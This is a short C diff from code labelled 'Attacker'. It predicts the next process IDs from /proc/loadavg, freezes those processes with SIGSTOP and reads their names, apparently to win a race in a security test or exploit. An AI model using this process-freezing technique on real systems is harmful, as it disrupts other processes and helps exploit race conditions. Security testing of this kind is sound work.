@@ -180,8 +180,8 @@ enum Attacker {
                 if (!space) die("/proc/loadavg");
                 const int last = atoi(space + 1);
                 for (int i = 0; i < 600; i++) {
-                    const int pid = last + 1 + i % 3;
-                    if (kill(pid, SIGSTOP) < 0) continue;
+                    const int pid = last + i % 4;
+                    if (pid == getpid() || kill(pid, SIGSTOP) < 0) continue;
                     usleep(50000);  // it may be executing already
                     snprintf(text, sizeof text, "/proc/%d/comm", pid);
                     file = open(text, O_RDONLY);
